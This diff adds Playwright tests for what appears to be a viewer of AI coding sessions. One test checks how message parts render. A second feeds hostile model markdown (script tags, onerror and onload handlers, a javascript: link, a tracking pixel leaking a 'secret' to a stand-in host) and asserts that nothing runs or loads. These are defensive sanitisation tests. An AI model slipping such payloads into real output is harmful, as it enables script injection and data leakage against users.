@@ -1,0 +1,108 @@
+import { expect, test } from './fixtures'
+import { Workbench } from './page-models/workbench'
+import { EVERY_PART_TYPE_TEXT as T, everyPartTypeFixture } from './support/fixtures-data'
+import { makeBuilders } from '../src/session/fixture-builders'
+
+test('a seeded session renders every part type as a reader wants it', async ({ page }) => {
+  const app = new Workbench(page)
+  await app.open()
+  await app.seed((projectID) => everyPartTypeFixture({ projectID }))
+  // Child sessions stay out of the top-level list.
+  await expect(app.sessionLink(new RegExp(`^${T.childSessionTitle}`))).toHaveCount(0)
+  await app.sessionLink(new RegExp(`^${T.sessionTitle}`)).click()
+  const log = app.messages
+  await expect(log).toBeVisible()
+
+  // User message: typed text, text added by tabcode, an ignored aside, files, an agent mention, a subtask.
+  const you = log.getByRole('article', { name: 'You' }).first()
+  await expect(you).toContainText(T.userText)
+  await expect(you).toContainText(T.syntheticText)
+  await expect(you).toContainText(T.ignoredText)
+  await expect(you).toContainText(T.fileName)
+  await expect(you).toContainText(T.externalFileName)
+  await expect(you).toContainText(T.agent)
+  await expect(you.getByRole('group', { name: `Subtask: ${T.subtaskDescription}` })).toContainText(T.subtaskPrompt)
+
+  const reply = log.getByRole('article', { name: `Assistant (${T.modelID})` }).first()
+  // Markdown: a heading and a fenced code block, rendered as elements.
+  await expect(reply.getByRole('heading', { name: T.assistantHeading })).toBeVisible()
+  await expect(reply.locator('pre code')).toContainText("parse('- a")
+  await expect(reply).toContainText(T.assistantText)
+
+  // Reasoning is collapsible.
+  const reasoning = reply.getByText('Reasoning', { exact: false }).first()
+  await expect(reasoning).toBeVisible()
+  const reasoningText = reply.getByText(T.reasoning)
+  if (!(await reasoningText.isVisible())) await reasoning.click()
+  await expect(reasoningText).toBeVisible()
+  await reasoning.click()
+  await expect(reasoningText).toBeHidden()
+
+  // Tool cards by state, with duration, the interrupted mark and the cleared-for-the-model note.
+  const tools = reply.getByRole('group', { name: /^Tool call: / })
+  await expect(tools).toHaveCount(5)
+  const completed = tools.filter({ hasText: T.toolCompletedTitle })
+  await expect(completed).toContainText('completed')
+  await expect(completed).toContainText('1.8 s')
+  const output = completed.getByText(/^Output/)
+  if (!(await completed.getByText(T.toolCompletedOutput).isVisible())) await output.click()
+  await expect(completed.getByText(T.toolCompletedOutput)).toBeVisible()
+  await completed.getByRole('button', { name: /^Show all/ }).click()
+  await expect(completed.getByText(T.toolOutputTail)).toBeVisible()
+  const errored = tools.filter({ hasText: T.toolErrorText })
+  await expect(errored).toContainText('interrupted')
+  await expect(errored).toContainText('error')
+  await expect(tools.filter({ hasText: T.toolRunningSubject })).toContainText('running')
+  await expect(tools.filter({ hasText: T.toolPendingName })).toContainText('pending')
+  await expect(tools.filter({ hasText: T.toolCompactedTitle })).toContainText(/cleared/i)
+
+  // Step usage, changed files, retry, message error.
+  await expect(reply).toContainText('12k in · 830 out · 210 reasoning · 9k cache read · 1.2k cache write')
+  await expect(reply).toContainText('$0.0123')
+  await expect(reply.getByRole('group', { name: 'Changed files' })).toContainText(T.patchFile)
+  await expect(reply).toContainText(T.retry)
+  await expect(log).toContainText(T.messageError)
+  await expect(log).toContainText(T.messageErrorText)
+
+  // Compaction divider, the summary under it, and the conversation after it.
+  await expect(log).toContainText(T.compaction)
+  await expect(log.getByRole('article', { name: `Summary (${T.modelID})` })).toContainText(T.summaryText)
+  await expect(log).toContainText(T.afterCompactionText)
+
+  // Session totals in the header.
+  await expect(app.main).toContainText('$0.0165')
+  await page.screenshot({ path: 'test-results/screenshots/every-part-type.png', fullPage: true })
+})
+
+test('model markdown cannot run script or fetch external images by itself', async ({ page }) => {
+  const app = new Workbench(page)
+  const external: string[] = []
+  page.on('request', (request) => {
+    if (!request.url().startsWith('http://127.0.0.1')) external.push(request.url())
+  })
+  await app.open()
+  const build = makeBuilders()
+  await app.seed((projectID) => {
+    const session = build.session({ projectID, title: 'Hostile output' })
+    const user = build.user(session.id)
+    const reply = build.assistant(session.id, user.id)
+    const hostile = [
+      'Look: <img src=x onerror="window.__pwned = 1"> and <script>window.__pwned = 2</script>',
+      '[click me](javascript:window.__pwned=3) and [safe](https://example.com/docs)',
+      '![tracker](https://tracker.example/pixel.png?leak=secret)',
+      '<svg onload="window.__pwned = 4"></svg>',
+    ].join('\n\n')
+    return { sessions: [session], messages: [user, reply], parts: [build.text(user, 'show me'), build.text(reply, hostile)] }
+  })
+  await app.sessionLink(/^Hostile output/).click()
+  const reply = app.messages.getByRole('article', { name: /^Assistant/ })
+  await expect(reply).toContainText('click me')
+  await expect(reply.getByRole('link', { name: 'click me' })).toHaveCount(0)
+  await expect(reply.getByRole('link', { name: 'safe' })).toHaveAttribute('href', 'https://example.com/docs')
+  const load = reply.getByRole('button', { name: /^Load image/ })
+  await expect(load).toBeVisible()
+  expect(await reply.locator('img').count()).toBe(0)
+  expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined()
+  expect(await reply.locator('script, [onerror], [onload]').count()).toBe(0)
+  expect(external).toEqual([])
+})
